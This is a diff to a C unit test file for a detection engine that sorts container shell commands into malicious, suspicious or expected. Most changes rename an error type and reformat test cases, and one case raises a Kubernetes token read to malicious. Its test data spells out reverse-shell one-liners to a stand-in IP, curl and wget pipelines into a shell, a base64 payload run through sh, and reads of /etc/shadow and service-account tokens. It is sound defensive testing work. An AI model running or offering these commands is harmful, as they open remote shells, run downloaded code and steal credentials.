@@ -22,7 +22,7 @@ struct fixture {
 static int setup(void **state)
 {
 	struct fixture *f = calloc(1, sizeof(*f));
-	struct rules_error err;
+	struct ss_error err;
 
 	if (!f || kb_load(KB_FILE, &f->kb, &err)) {
 		print_error("%s:%d:%d: %s\n", err.file, err.line, err.col, err.msg);
@@ -125,19 +125,21 @@ static void test_indicators(void **state)
 		const char *id;
 		enum kb_verdict v;
 	} cases[] = {
-		{ "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell",
-		  KB_MALICIOUS },
-		{ "sh -c nc -e /bin/sh 198.51.100.7 80", "reverse-shell", KB_MALICIOUS },
-		{ "sh -c curl -fsSL http://198.51.100.7/i.sh | sh", "download-and-run", KB_MALICIOUS },
-		{ "sh -c wget -O- http://198.51.100.7/i | bash", "download-and-run", KB_MALICIOUS },
-		{ "sh -c echo ZWNobyBoaQ== | base64 -d | sh", "base64-payload-to-shell", KB_MALICIOUS },
-		{ "sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token",
-		  "service-account-token-read", KB_SUSPICIOUS },
-		{ "sh -c cat /etc/shadow", "shadow-file-access", KB_SUSPICIOUS },
-		{ "sh -c ps aux | grep -i falco", "security-tooling-discovery", KB_SUSPICIOUS },
-		{ "sh -c pg_isready -U postgres", "container-exec-probe", KB_EXPECTED },
-		{ "sh -c apt-get update && apt-get install -y curl", "package-manager-in-build",
-		  KB_EXPECTED },
+		{"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell",
+		 KB_MALICIOUS},
+		{"sh -c nc -e /bin/sh 198.51.100.7 80", "reverse-shell", KB_MALICIOUS},
+		{"sh -c curl -fsSL http://198.51.100.7/i.sh | sh", "download-and-run",
+		 KB_MALICIOUS},
+		{"sh -c wget -O- http://198.51.100.7/i | bash", "download-and-run", KB_MALICIOUS},
+		{"sh -c echo ZWNobyBoaQ== | base64 -d | sh", "base64-payload-to-shell",
+		 KB_MALICIOUS},
+		{"sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+		 "service-account-token-read", KB_MALICIOUS},
+		{"sh -c cat /etc/shadow", "shadow-file-access", KB_SUSPICIOUS},
+		{"sh -c ps aux | grep -i falco", "security-tooling-discovery", KB_SUSPICIOUS},
+		{"sh -c pg_isready -U postgres", "container-exec-probe", KB_EXPECTED},
+		{"sh -c apt-get update && apt-get install -y curl", "package-manager-in-build",
+		 KB_EXPECTED},
 	};
 	struct fixture *f = *state;
 	struct kb_result r;
@@ -192,7 +194,7 @@ static void test_probe_context(void **state)
 
 static void expect_error(const char *yaml, int line, const char *needle)
 {
-	struct rules_error err;
+	struct ss_error err;
 	struct kb *kb = NULL;
 
 	assert_int_equal(kb_load_buffer(yaml, strlen(yaml), "t.yaml", &kb, &err), -EINVAL);
